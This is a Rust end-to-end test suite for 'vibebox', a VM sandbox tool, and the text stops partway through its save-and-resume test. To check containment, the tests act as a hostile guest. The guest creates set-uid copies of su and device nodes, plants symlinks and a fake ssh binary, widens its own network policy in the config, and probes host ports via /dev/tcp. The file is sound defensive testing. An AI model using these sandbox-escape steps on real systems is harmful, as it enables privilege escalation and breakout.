//! End-to-end: the real binary boots real VMs under QEMU (TCG on CI) from the image
//! `.ci/run` builds. VM tests run one at a time (a lock) because each guest takes a
//! core; where it keeps a test meaningful, one boot serves several checks.

mod common;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::Mutex;
use std::time::{Duration, Instant};

use common::netlab::NetLab;
use common::{Env, Out, run};

static VM: Mutex<()> = Mutex::new(());

fn vm_lock() -> std::sync::MutexGuard<'static, ()> {
    VM.lock().unwrap_or_else(|e| e.into_inner())
}

struct Box {
    env: Env,
    project: PathBuf,
    /// The virtiofsd its shares use; 9p without one.
    virtiofsd: Option<PathBuf>,
    /// More environment for every vibebox it runs (and so its supervisor).
    env_vars: Vec<(String, String)>,
}

impl Box {
    fn new(images: &Path, name: &str, config: &str) -> Box {
        let env = Env::new();
        env.link_images(images);
        let project = env.project(name);
        fs::write(project.join("vibebox.toml"), config).unwrap();
        let b = Box {
            env,
            project,
            virtiofsd: None,
            env_vars: Vec::new(),
        };
        if !config.is_empty() {
            // The host user reviewed the config the test wrote.
            let out = common::approve(|| b.cmd());
            assert_eq!(out.code, 0, "{}", out.stderr);
        }
        b
    }

    fn cmd(&self) -> Command {
        let mut c = self.env.cmd(&self.project);
        if let Some(v) = &self.virtiofsd {
            c.env("VIBEBOX_VIRTIOFSD", v);
        }
        c.envs(self.env_vars.iter().map(|(k, v)| (k, v)));
        c
    }

    /// The filesystem type the guest has at `path` (a shell word).
    fn fstype(&self, path: &str) -> String {
        ok(&self.exec(&format!("findmnt -no FSTYPE -T {path}")))
            .trim()
            .to_string()
    }

    /// Runs vibebox; a failure that names a log gets the logs' tails appended to its
    /// stderr, so an assertion on it shows why the VM failed.
    fn vibebox(&self, args: &[&str]) -> Out {
        let mut c = self.cmd();
        c.args(args);
        let mut out = run(c);
        if out.code != 0 && out.stderr.contains(".log") {
            out.stderr.push_str(&self.logs());
        }
        out
    }

    fn exec(&self, script: &str) -> Out {
        self.vibebox(&["exec", "--", "sh", "-c", script])
    }

    fn spawn_exec(&self, script: &str) -> Child {
        let mut c = self.cmd();
        c.args(["exec", "--", "sh", "-c", script])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        c.spawn().unwrap()
    }

    fn id(&self) -> String {
        common::session_file_id(&self.project)
    }

    fn session_dir(&self) -> PathBuf {
        self.env.vibebox_home().join("sessions").join(self.id())
    }

    fn instance(&self) -> toml::Table {
        let text = fs::read_to_string(self.session_dir().join("instance.toml")).unwrap();
        toml::from_str(&text).unwrap()
    }

    fn status(&self) -> (String, u64) {
        let out = self.vibebox(&["list", "--json"]);
        let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
        let s = &v[0];
        (
            s["state"].as_str().unwrap().to_string(),
            s["clients"].as_u64().unwrap(),
        )
    }

    /// Polls `vibebox list` until `pred` holds, for at most `secs`.
    fn wait_status(&self, secs: u64, pred: impl Fn(&str, u64) -> bool) -> (String, u64) {
        let deadline = Instant::now() + Duration::from_secs(secs);
        loop {
            let (state, clients) = self.status();
            if pred(&state, clients) {
                return (state, clients);
            }
            assert!(
                Instant::now() < deadline,
                "timed out; last state {state}, clients {clients}; supervisor log:\n{}",
                fs::read_to_string(self.session_dir().join("logs/supervisor.log"))
                    .unwrap_or_default()
            );
            std::thread::sleep(Duration::from_millis(250));
        }
    }

    /// The tails of every session's logs, for failure messages.
    fn logs(&self) -> String {
        let mut out = String::new();
        let Ok(rd) = fs::read_dir(self.env.vibebox_home().join("sessions")) else {
            return out;
        };
        for e in rd.filter_map(|e| e.ok()) {
            for f in ["supervisor.log", "qemu.log", "console.log", "virtiofsd.log"] {
                let text = fs::read_to_string(e.path().join("logs").join(f)).unwrap_or_default();
                let tail: Vec<&str> = text.lines().rev().take(40).collect();
                out.push_str(&format!("--- {}/{f}\n", e.path().display()));
                for l in tail.iter().rev() {
                    out.push_str(l);
                    out.push('\n');
                }
            }
        }
        out
    }

    fn qemu_img_check(&self) {
        let out = Command::new("qemu-img")
            .args(["check", "-q"])
            .arg(self.session_dir().join("disk.qcow2"))
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "qemu-img check: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

impl Drop for Box {
    fn drop(&mut self) {
        let _ = self.vibebox(&["stop", "-y"]);
    }
}

fn ok(out: &Out) -> &str {
    assert_eq!(
        out.code, 0,
        "stdout: {}\nstderr: {}",
        out.stdout, out.stderr
    );
    &out.stdout
}

/// How many virtiofsd processes serve a share of the session in `dir` (from /proc:
/// their command lines name a mount point in it).
fn share_daemons(dir: &Path) -> usize {
    let needle = dir.as_os_str().as_encoded_bytes();
    fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| fs::read(e.ok()?.path().join("cmdline")).ok())
        .filter(|c| {
            c.split(|b| *b == 0)
                .next()
                .is_some_and(|argv0| argv0.ends_with(b"virtiofsd"))
                && c.split(|b| *b == 0).any(|arg| arg.starts_with(needle))
        })
        .count()
}

/// Guest root tries to leave files on the host that are not the project owner's:
/// set-uid and set-gid bits, another owner, device nodes, a set-uid copy of a
/// binary, a file made by another guest user. None of it may reach the host (only
/// the guest's attempts run here; the host checks the files themselves).
/// The project share's two coherence rules, on whichever share type `b` booted
/// with: a write, rename or delete in the guest is on the host as soon as the
/// command returns; an edit, creation, rename or delete on the host is seen in the
/// guest within 1 s (the guest's attribute and entry caches may hold that long, no
/// longer). The guest caches everything, the host changes it, and 1 s after the
/// guest hears so it looks once: a correctness bound that a busy TCG guest cannot
/// make flaky (a slow guest only looks later), not a speed measurement.
fn share_is_coherent(b: &Box) {
    // Guest to host, at once.
    ok(&b.exec(
        "mkdir -p coh && echo g1 > coh/g.txt && echo r > coh/r1.txt && mv coh/r1.txt coh/r2.txt && echo d > coh/d.txt && rm coh/d.txt",
    ));
    let coh = b.project.join("coh");
    assert_eq!(fs::read_to_string(coh.join("g.txt")).unwrap(), "g1\n");
    assert!(!coh.join("r1.txt").exists() && coh.join("r2.txt").exists());
    assert!(!coh.join("d.txt").exists());
    ok(&b.exec("echo g2 >> coh/g.txt"));
    assert_eq!(fs::read_to_string(coh.join("g.txt")).unwrap(), "g1\ng2\n");

    // Host to guest, within 1 s of what the guest last looked at.
    fs::write(coh.join("edit.txt"), "old1\n").unwrap();
    fs::write(coh.join("gone.txt"), "x\n").unwrap();
    fs::write(coh.join("from.txt"), "y\n").unwrap();
    let script = r#"cd coh || exit 1
look() { read -r a < edit.txt; [ "$a" = new2 ] && [ -e new.txt ] && [ ! -e gone.txt ] && [ ! -e from.txt ] && [ -e to.txt ]; }
look; ls -l > /dev/null; echo cached
read -r go
s=${EPOCHREALTIME/./}
while [ $((${EPOCHREALTIME/./} - s)) -lt 1000000 ]; do :; done
look || { echo "stale 1 s after the host's edits: edit.txt=$a; $(ls)"; exit 1; }
echo "seen after $((${EPOCHREALTIME/./} - s)) us""#;
    let mut c = b.cmd();
    c.args(["exec", "--", "bash", "-c", script])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = c.spawn().unwrap();
    let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    std::io::BufRead::read_line(&mut stdout, &mut line).unwrap();
    assert_eq!(line, "cached\n");
    // The edits first, then the word: the guest's clock starts after all of them.
    fs::write(coh.join("edit.txt"), "new2\n").unwrap();
    fs::write(coh.join("new.txt"), "n\n").unwrap();
    fs::remove_file(coh.join("gone.txt")).unwrap();
    fs::rename(coh.join("from.txt"), coh.join("to.txt")).unwrap();
    let mut stdin = child.stdin.take().unwrap();
    std::io::Write::write_all(&mut stdin, b"go\n").unwrap();
    drop(stdin);
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut stdout, &mut rest).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success() && rest.starts_with("seen after "),
        "host edits not seen in the guest: {rest}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    eprintln!("host edits {rest}");
    fs::remove_dir_all(&coh).unwrap();
}

fn guest_cannot_own_host_files(b: &Box) {
    use std::os::unix::fs::{FileTypeExt, MetadataExt};
    let out = b.exec(concat!(
        "if [ \"$(id -u)\" = 0 ]; then S=; else S=sudo; fi; ",
        "mkdir own && cd own; ",
        "echo x > suid; $S chmod 4755 suid; echo x > sgid; $S chmod 2755 sgid; ",
        "echo x > other; $S chown 1001:1001 other; ",
        "$S mknod null c 1 3; $S mknod blk b 7 0; mkfifo fifo; ",
        "$S cp -p /usr/bin/su sucopy; $S install -m 4755 /bin/true suinst; ",
        "$S mkdir -m 777 pub; ",
        "$S setpriv --reuid=1001 --regid=1001 --clear-groups sh -c 'echo y > pub/byother'; ",
        "ls -ln . pub; true",
    ));
    let guest_view = ok(&out).to_string();
    let owner = fs::metadata(&b.project).unwrap();
    let own = b.project.join("own");
    assert!(
        own.join("pub/byother").is_file(),
        "the other guest user could not write: {guest_view}"
    );
    let mut seen = 0;
    for dir in [own.clone(), own.join("pub")] {
        for e in fs::read_dir(&dir).unwrap() {
            let e = e.unwrap();
            let m = fs::symlink_metadata(e.path()).unwrap();
            let what = format!("{} (guest saw:\n{guest_view})", e.path().display());
            assert_eq!(
                m.mode() & 0o6000,
                0,
                "set-uid/set-gid bit on the host: {what}"
            );
            assert_eq!(m.uid(), owner.uid(), "not the project owner's: {what}");
            assert!(
                !m.file_type().is_char_device() && !m.file_type().is_block_device(),
                "a device node on the host: {what}"
            );
            seen += 1;
        }
    }
    assert!(seen >= 6, "{guest_view}");
    // `vibebox explain` names the model in force.
    let explain = ok(&b.vibebox(&["explain"])).to_string();
    let model = if is_root() {
        "although vibebox runs as root"
    } else {
        "the share server runs as you"
    };
    assert!(explain.contains(model), "{explain}");
}

/// A terminal for a test: a private tmux server running `shell` in a 200x50
/// window, as a user would type into it. The server ends with the value.
struct Term {
    socket: PathBuf,
}

impl Term {
    fn start(b: &Box, shell: &str) -> Term {
        let term = Term {
            socket: b.env.tmp.path().join("tmux.sock"),
        };
        term.tmux(&[
            "new-session",
            "-d",
            "-s",
            "t",
            "-x",
            "200",
            "-y",
            "50",
            shell,
        ]);
        term
    }

    fn tmux(&self, args: &[&str]) -> std::process::Output {
        Command::new("tmux")
            .arg("-S")
            .arg(&self.socket)
            .args(args)
            .output()
            .unwrap()
    }

    fn screen(&self) -> String {
        String::from_utf8_lossy(
            &self
                .tmux(&["capture-pane", "-p", "-S", "-200", "-t", "t"])
                .stdout,
        )
        .into_owned()
    }

    /// Types `k` and Enter.
    fn keys(&self, k: &str) {
        self.tmux(&["send-keys", "-t", "t", k, "Enter"]);
    }

    /// Waits until `needle` is on the screen `times` times (earlier prompts stay in
    /// the scrollback); the screen then.
    fn wait_n(&self, b: &Box, needle: &str, times: usize, secs: u64) -> String {
        let deadline = Instant::now() + Duration::from_secs(secs);
        loop {
            let s = self.screen();
            if s.matches(needle).count() >= times {
                return s;
            }
            assert!(
                Instant::now() < deadline,
                "waited for {needle:?} x{times}; screen:\n{s}\nlogs:\n{}",
                b.logs()
            );
            std::thread::sleep(Duration::from_millis(250));
        }
    }
}

impl Drop for Term {
    fn drop(&mut self) {
        self.tmux(&["kill-server"]);
    }
}

fn kill9(pid: i32) {
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid),
        nix::sys::signal::Signal::SIGKILL,
    )
    .unwrap();
}

fn alive(pid: i64) -> bool {
    nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid as i32), None).is_ok()
        && !fs::read_to_string(format!("/proc/{pid}/stat"))
            .unwrap_or_default()
            .contains(") Z ")
}

/// First start, exec (exit codes, stdin, same path), mounts rw and ro (enforced
/// against guest root), two clients, a client killed with -9, auto-shutdown after
/// the grace period, resume with the disk intact, stop.
#[test]
fn lifecycle_exec_mounts_refcount_autoshutdown_resume() {
    let Some(images) = common::test_images() else {
        return;
    };
    let _vm = vm_lock();
    let env_dir = tempfile::Builder::new()
        .prefix("vbx-ro-")
        .tempdir()
        .unwrap();
    let ro = env_dir.path().join("shared ro, \"data\"");
    let rw = env_dir.path().join("scratch");
    fs::create_dir_all(&ro).unwrap();
    fs::create_dir_all(&rw).unwrap();
    fs::write(ro.join("given.txt"), "from host\n").unwrap();
    // A fixed mapping to a guest port nothing listens on yet: published from the
    // boot on, to a host port of the test's choosing.
    let [fixed_host, fixed_guest, auto_port, moved_to] = free_ports();
    // Two services on the host's loopback; the VM is granted the first only.
    let granted = host_service("from the host");
    let other = host_service("not for the VM");
    let host_ports = [
        granted.local_addr().unwrap().port(),
        other.local_addr().unwrap().port(),
    ];
    // Build caches on the VM's disk; two of them lead through links the guest planted
    // in the project on an earlier boot, pointing at a host directory.
    let outside = env_dir.path().join("outside");
    fs::create_dir_all(&outside).unwrap();
    let config = format!(
        "[box]\nvolumes = [\"node_modules\", \"web/.venv\", \"evil\", \"link/cache\"]\nmounts = [\"{}:/mnt/ro data:ro\", \"{}:scratch\"]\n[supervisor]\nauto_shutdown_ms = 2000\n[ports]\npublish = [\"{fixed_host}:{fixed_guest}\"]\nhost = [\"{}\"]\n",
        ro.display().to_string().replace('"', "\\\""),
        rw.display(),
        host_ports[0]
    );
    // Spaces, commas, quotes, non-ASCII, and a path of 200+ characters.
    let name = format!("my proj, \"v2\" é {}", "x".repeat(190));
    let mut b = Box::new(&images, &name, &config);
    assert!(b.project.as_os_str().len() > 200);
    // Shared with virtiofs where CI provides virtiofsd (9p is covered by the crash
    // test).
    b.virtiofsd = common::test_virtiofsd();
    let share_type = if b.virtiofsd.is_some() {
        "virtiofs"
    } else {
        "9p"
    };
    std::os::unix::fs::symlink(&outside, b.project.join("evil")).unwrap();
    std::os::unix::fs::symlink(&outside, b.project.join("link")).unwrap();

    // First start: boots, runs in the project at the same absolute path.
    let out = b.exec(
        "pwd; cat '/mnt/ro data/given.txt'; echo made > inproject.txt; echo home > ~/scratch/h.txt",
    );
    let stdout = ok(&out);
    assert_eq!(
        stdout,
        format!("{}\nfrom host\n", b.project.display()),
        "stderr: {}",
        out.stderr
    );
    assert_eq!(
        fs::read_to_string(b.project.join("inproject.txt")).unwrap(),
        "made\n"
    );
    assert_eq!(fs::read_to_string(rw.join("h.txt")).unwrap(), "home\n");
    for path in ["\"$PWD\"", "'/mnt/ro data'", "~/scratch"] {
        assert_eq!(b.fstype(path), share_type, "{path}");
    }
    share_is_coherent(&b);
    guest_cannot_own_host_files(&b);

    // Volumes: on the VM's disk, the host sees only the empty directory. The planted
    // links are refused (named at the start), nothing is created through them.
    for planted in ["volume evil not mounted", "volume link/cache not mounted"] {
        assert!(
            out.stderr
                .contains(&format!("the guest reported: {planted}"))
                && out.stderr.contains("is a symbolic link"),
            "{planted}: {}",
            out.stderr
        );
    }
    ok(&b.exec(
        "echo cached > node_modules/f && mkdir -p web/.venv/bin && echo v > web/.venv/bin/py && sync",
    ));
    for v in ["node_modules", "web/.venv"] {
        let fstype = b.fstype(&format!("\"$PWD/{v}\""));
        assert!(fstype != share_type && fstype != "overlay", "{v}: {fstype}");
        let on_host = b.project.join(v);
        assert!(on_host.is_dir(), "{v} is not a directory on the host");
        assert_eq!(
            fs::read_dir(&on_host).unwrap().count(),
            0,
            "{v} crossed the share"
        );
    }
    assert_eq!(
        fs::read_dir(&outside).unwrap().count(),
        0,
        "written through a planted link"
    );
    assert!(b.project.join("evil").is_symlink() && b.project.join("link").is_symlink());
    let out = b.vibebox(&["explain"]);
    assert!(
        ok(&out).contains(&format!("\n  {}\n", b.project.join("web/.venv").display()))
            && out.stdout.contains("the host sees an empty directory"),
        "{}",
        out.stdout
    );
    if b.virtiofsd.is_some() {
        // (The namespace sandbox forks: two processes for one share.)
        assert!(
            share_daemons(&b.session_dir()) > 0,
            "no virtiofsd for the project"
        );
    }

    // QEMU runs under its seccomp filter (Debian's QEMU has -sandbox).
    let qemu_pid = b.instance()["qemu_pid"].as_integer().unwrap();
    let status = fs::read_to_string(format!("/proc/{qemu_pid}/status")).unwrap();
    assert!(
        status.contains("Seccomp:\t2"),
        "QEMU without seccomp:\n{status}"
    );

    // A relative PATH entry (here the project, which the guest writes) never
    // supplies the programs vibebox runs: a planted `ssh` does not run.
    ok(&b.exec("mkdir -p bin && printf '#!/bin/sh\\ntouch \"$(dirname \"$0\")/../PLANTED\"\\nexit 1\\n' > bin/ssh && chmod +x bin/ssh"));
    let mut c = b.cmd();
    let path = format!("bin:{}", std::env::var("PATH").unwrap_or_default());
    c.env("PATH", path).args(["exec", "--", "true"]);
    let out = common::run(c);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        !b.project.join("PLANTED").exists(),
        "the project's ssh ran on the host"
    );

    // Exit codes and stdin pass through.
    assert_eq!(b.exec("exit 7").code, 7);
    let mut c = b.cmd();
    c.args(["exec", "--", "sh", "-c", "tr a-z A-Z; echo err >&2"]);
    let o = common::run_with_input(c, b"piped input\n");
    assert!(o.status.success());
    assert_eq!(String::from_utf8_lossy(&o.stdout), "PIPED INPUT\n");
    assert!(String::from_utf8_lossy(&o.stderr).contains("err"));

    ports_are_published_both_ways(&b, [fixed_host, fixed_guest, auto_port, moved_to]);
    // The granted host service answers at host.vibebox.internal; the other one,
    // listening on the same loopback, is out of reach.
    let reach = |port: u16| {
        b.exec(&format!(
            "timeout 20 bash -c 'exec 3<>/dev/tcp/host.vibebox.internal/{port} && cat <&3'"
        ))
    };
    assert_eq!(ok(&reach(host_ports[0])), "from the host\n");
    let out = reach(host_ports[1]);
    assert_ne!(out.code, 0, "{}", out.stdout);
    assert!(!out.stdout.contains("not for the VM"), "{}", out.stdout);
    drop((granted, other));

    // Read-only is enforced by the host: guest root cannot write.
    let out = b.exec("sudo touch '/mnt/ro data/nope' 2>&1 || touch '/mnt/ro data/nope'");
    assert_ne!(out.code, 0, "{}", out.stdout);
    assert!(!ro.join("nope").exists());
    assert!(fs::read_dir(&ro).unwrap().count() == 1);

    // Something to find after the resume, outside the project (on the VM disk).
    ok(&b.exec("echo keep > /var/tmp/keep.txt && sync"));

    // The guest widens its own network policy in vibebox.toml (it can write the
    // project). The running VM keeps what it booted with; the next boot must not
    // get it without the host user's approval.
    ok(&b.exec("printf '[network]\\nmode = \"blocklist\"\\nentries = []\\n' >> vibebox.toml"));
    assert!(
        fs::read_to_string(b.project.join("vibebox.toml"))
            .unwrap()
            .contains("mode = \"blocklist\"")
    );

    // Two clients at once; killing one with -9 drops its reference.
    let mut c1 = b.spawn_exec("sleep 20");
    let mut c2 = b.spawn_exec("sleep 20");
    b.wait_status(60, |s, n| s == "running" && n == 2);
    // Both guest `sleep 20`s have begun by now (each client attached first); their
    // ssh channels outlive the `kill -9` below until they end.
    let sleeps_over = Instant::now() + Duration::from_secs(21);

    // The guest deletes the project's marker while clients are attached; host
    // commands elsewhere only look: the VM keeps running and its state stays.
    let id = b.id();
    let disk = b.session_dir().join("disk.qcow2");
    ok(&b.exec("sudo rm -rf .vibebox && test ! -e .vibebox"));
    let elsewhere = b.env.project("elsewhere");
    for args in [&["list"][..], &["explain"][..]] {
        let mut c = b.env.cmd(&elsewhere);
        c.args(args);
        let out = common::run(c);
        assert_eq!(out.code, 0, "{args:?}: {}", out.stderr);
    }
    assert_eq!(b.status(), ("running".to_string(), 2));
    assert!(
        disk.is_file()
            && b.env
                .vibebox_home()
                .join("sessions")
                .join(&id)
                .join("logs")
                .is_dir()
    );
    // The next command in the project writes the hint again, same session.
    ok(&b.vibebox(&["init"]));
    assert_eq!(b.id(), id);

    // An ssh opened by hand (its own connection, as an editor's remote session
    // makes) keeps the idle VM up for as long as it runs something.
    let out = b.vibebox(&["ssh-config"]);
    let block = ok(&out).to_string();
    let alias = block
        .lines()
        .next()
        .and_then(|l| l.strip_prefix("Host "))
        .expect("a Host line")
        .to_string();
    let cfg = b.env.vibebox_home().join("by-hand-ssh-config");
    fs::write(&cfg, &block).unwrap();
    let mut by_hand = Command::new("ssh")
        .arg("-F")
        .arg(&cfg)
        .args(["-o", "ControlMaster=no", "-o", "ControlPath=none", "-T"])
        .args([&alias, "echo up; exec sleep 600"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut first = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(by_hand.stdout.take().unwrap()),
        &mut first,
    )
    .unwrap();
    assert_eq!(first, "up\n");

    kill9(c1.id() as i32);
    let _ = c1.wait();
    b.wait_status(30, |s, n| s == "running" && n == 1);
    kill9(c2.id() as i32);
    let _ = c2.wait();

    // No vibebox client is left; the idle check finds the by-hand login and keeps
    // the VM up (the check says so in the supervisor's log).
    let supervisor_log = b
        .env
        .vibebox_home()
        .join("sessions")
        .join(&id)
        .join("logs")
        .join("supervisor.log");
    // Only a check made after the guest's `sleep`s ended counts: then the by-hand
    // login is the one thing live.
    let live_checks = || {
        fs::read_to_string(&supervisor_log)
            .unwrap_or_default()
            .matches("login session(s) live in the guest")
            .count()
    };
    while Instant::now() < sleeps_over {
        assert_eq!(b.status().0, "running", "{}", b.logs());
        std::thread::sleep(Duration::from_millis(250));
    }
    let before = live_checks();
    let deadline = Instant::now() + Duration::from_secs(120);
    while live_checks() == before {
        assert!(
            Instant::now() < deadline,
            "the idle check never saw the by-hand ssh:\n{}",
            b.logs()
        );
        assert_eq!(b.status().0, "running", "{}", b.logs());
        std::thread::sleep(Duration::from_millis(250));
    }
    assert_eq!(b.status(), ("running".to_string(), 0));
    // The by-hand session ends (its connection drops): nothing keeps the VM up.
    kill9(by_hand.id() as i32);
    let _ = by_hand.wait();

    // No clients: after the 2 s grace the VM shuts itself down.
    let qemu_pid = b.instance()["qemu_pid"].as_integer().unwrap();
    b.wait_status(90, |s, _| s == "stopped");
    let deadline = Instant::now() + Duration::from_secs(30);
    while alive(qemu_pid) {
        assert!(
            Instant::now() < deadline,
            "QEMU still running after shutdown"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    b.qemu_img_check();
    assert_eq!(
        share_daemons(&b.session_dir()),
        0,
        "a virtiofsd outlived its VM"
    );

    // The edited config is refused before anything boots, naming the change...
    let out = b.exec("true");
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains("more than you last approved")
            && out.stderr.contains("+ network blocklist"),
        "{}",
        out.stderr
    );
    assert_eq!(b.status().0, "stopped");
    // ...until the host user approves what the refusal named.
    let digest = common::expected_digest(&out.stderr).expect("the refusal names a digest");
    let out = b.vibebox(&["approve", "--expect", &digest]);
    assert!(ok(&out).contains("+ network blocklist"), "{}", out.stdout);

    // Resume from the preserved disk; the volumes kept their files, still only in
    // the VM.
    let out = b.exec("cat /var/tmp/keep.txt node_modules/f web/.venv/bin/py");
    assert_eq!(ok(&out), "keep\ncached\nv\n");
    assert_eq!(
        fs::read_dir(b.project.join("node_modules"))
            .unwrap()
            .count(),
        0
    );
    // The fixed mapping is back after the restart.
    wait_published(&b, fixed_guest, |p| p == Some(fixed_host));

    // A client arriving while the VM shuts down waits, and gets a VM booted again
    // (never a dead one).
    let mut stopper = b.cmd();
    stopper
        .arg("stop")
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    let mut stopper = stopper.spawn().unwrap();
    b.wait_status(60, |s, _| s == "stopping");
    let out = b.exec("cat /var/tmp/keep.txt");
    assert_eq!(ok(&out), "keep\n");
    assert!(stopper.wait().unwrap().success());

    // `vibebox stop` shuts it down now.
    let out = b.vibebox(&["stop"]);
    assert!(ok(&out).contains("stopped session"), "{}", out.stdout);
    assert_eq!(b.status().0, "stopped");
    b.qemu_img_check();

    // The volumes go with the session: a new one starts with them empty.
    ok(&b.vibebox(&["delete", "-y", &b.id()]));
    let out = b.exec("ls -A node_modules web/.venv");
    assert_eq!(ok(&out), "node_modules:\n\nweb/.venv:\n", "{}", out.stderr);
}

/// The supervisor log's lines that say what the last start did.
fn log_count(b: &Box, what: &str) -> usize {
    fs::read_to_string(b.session_dir().join("logs/supervisor.log"))
        .unwrap_or_default()
        .matches(what)
        .count()
}

/// Waits (up to 60 s) for the guest's server behind the fixed mapping `port` to
/// answer: the mapping is there from the boot on, the server maybe not yet.
fn served(port: u16) {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let got = hello(port).unwrap_or_default();
        if got == "served before the stop\n" {
            return;
        }
        assert!(
            Instant::now() < deadline,
            "the guest's server answered {got:?}"
        );
        std::thread::sleep(Duration::from_millis(500));
    }
}

/// `vibebox stop` saves the VM and the next start resumes it (9p shares): the
/// guest's memory survives (a /dev/shm marker), its shares are mounted again and
/// coherent, its clock is the host's, tasks ended, ssh and the network work; and
/// every case where resuming is not safe boots cold with the command still run.
#[test]
fn stop_saves_the_vm_and_the_next_start_resumes_it() {
    let Some(images) = common::test_images() else {
        return;
    };
    let _vm = vm_lock();
    let ro = tempfile::Builder::new()
        .prefix("vbx-resume-ro-")
        .tempdir()
        .unwrap();
    fs::write(ro.path().join("given.txt"), "ro\n").unwrap();
    let granted = host_service("from the host");
    let other = host_service("not for the VM");
    let [pub_host, pub_guest] = free_ports();
    let config = |memory: u32| {
        format!(
            "[box]\nmemory_mb = {memory}\nmounts = [\"{}:/mnt/ro:ro\"]\nvolumes = [\".venv\"]\n[supervisor]\nauto_shutdown_ms = 600000\n[ports]\npublish = [\"{pub_host}:{pub_guest}\"]\nhost = [\"{}\"]\n",
            ro.path().display(),
            granted.local_addr().unwrap().port()
        )
    };
    let b = Box::new(&images, "resume me", &config(1024));
    let state = || b.session_dir().join("resume.state");
    let git = Command::new("git")
        .args(["init", "-q"])
        .arg(&b.project)
        .status()
        .unwrap();
    assert!(git.success());
    let marker = "cat /dev/shm/vbx-marker 2>/dev/null || echo none";

    // Boot 1 (cold): a marker only this guest's memory holds, a task, a volume file.
    let out = b.exec(
        "echo boot1 > /dev/shm/vbx-marker && echo v > .venv/py && echo g > from-guest-1 && sync",
    );
    ok(&out);
    ok(&b.vibebox(&["launch", "sleeper", "--", "sleep", "3000"]));
    // A server in the guest, outside the share (a process whose working directory
    // is in a share keeps it busy, and the VM is then shut down, not saved).
    ok(&b.exec(&format!(
        "cd / && setsid nohup perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(LocalAddr => \"0.0.0.0\", LocalPort => {pub_guest}, Listen => 16, ReuseAddr => 1) or die; while ($c = $s->accept) {{ print $c \"served before the stop\\n\"; close $c }}' > /dev/null 2>&1 < /dev/null &"
    )));
    served(pub_host);
    let out = b.vibebox(&["stop", "-y"]);
    assert!(ok(&out).contains("stopped session"), "{}", out.stdout);
    assert!(state().is_file(), "no state saved:\n{}", b.logs());
    assert_eq!(log_count(&b, "saved the VM"), 1, "{}", b.logs());
    b.qemu_img_check();
    let mib = fs::metadata(state()).unwrap().len() >> 20;
    eprintln!("state file: {mib} MiB");

    // While stopped, the host edits the project.
    fs::write(b.project.join("from-host.txt"), "written while stopped\n").unwrap();

    // Resumed: memory kept, state used up before the guest ran, shares mounted
    // again (project, read-only share, volume, git overlay), the host's edit seen,
    // a guest write on the host, the clock set from the host's, the task gone.
    let out = b.exec(&format!(
        "{marker}; cat from-host.txt /mnt/ro/given.txt .venv/py; \
         findmnt -no FSTYPE -T \"$PWD\"; findmnt -no FSTYPE -T .venv; findmnt -no FSTYPE -M .git; \
         echo after > from-guest-2; date +%s"
    ));
    let host_now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    let lines: Vec<&str> = ok(&out).lines().collect();
    assert_eq!(
        &lines[..7],
        [
            "boot1",
            "written while stopped",
            "ro",
            "v",
            "9p",
            "ext4",
            "overlay"
        ],
        "{}\n{}",
        out.stderr,
        b.logs()
    );
    let guest_now: i64 = lines[7].parse().unwrap();
    assert!(
        (host_now - guest_now).abs() <= 5,
        "guest clock {guest_now}, host {host_now}"
    );
    assert_eq!(log_count(&b, "resumed the VM saved"), 1, "{}", b.logs());
    assert!(!state().exists(), "the state outlived its resume");
    assert_eq!(
        fs::read_to_string(b.project.join("from-guest-2")).unwrap(),
        "after\n"
    );
    share_is_coherent(&b);
    let tasks: serde_json::Value =
        serde_json::from_str(ok(&b.vibebox(&["tasks", "--json"]))).unwrap();
    assert_eq!(tasks.as_array().map(Vec::len), Some(0), "{tasks}");
    // ssh (a new connection) and the network policy through the new gateway.
    let out = b.exec(&format!(
        "timeout 20 bash -c 'exec 3<>/dev/tcp/host.vibebox.internal/{} && cat <&3'",
        granted.local_addr().unwrap().port()
    ));
    assert_eq!(ok(&out), "from the host\n");
    // The guest's server lived through the stop, published again by the new gateway.
    served(pub_host);
    let out = b.exec(&format!(
        "timeout 20 bash -c 'exec 3<>/dev/tcp/host.vibebox.internal/{} && cat <&3'",
        other.local_addr().unwrap().port()
    ));
    assert!(
        out.code != 0 && !out.stdout.contains("not for the VM"),
        "the resumed guest left its network policy: {}",
        out.stdout
    );

    // QEMU killed after a resume: the next start is cold (the state was used once).
    let qemu_pid = b.instance()["qemu_pid"].as_integer().unwrap();
    kill9(qemu_pid as i32);
    b.wait_status(60, |s, _| s == "stopped");
    let out = b.exec(&format!("{marker}; echo boot2 > /dev/shm/vbx-marker"));
    assert_eq!(ok(&out), "none\n", "{}", b.logs());
    assert_eq!(log_count(&b, "resumed the VM saved"), 1);

    // `stop --cold` shuts the guest down: no state, the next start is cold.
    ok(&b.vibebox(&["stop", "--cold"]));
    assert!(!state().exists());
    let out = b.exec(&format!("{marker}; echo boot3 > /dev/shm/vbx-marker"));
    assert_eq!(ok(&out), "none\n", "{}", b.logs());

    // A setting changed while stopped: the state does not fit, it is deleted and
    // the VM boots cold.
    ok(&b.vibebox(&["stop"]));
    assert!(state().is_file(), "{}", b.logs());
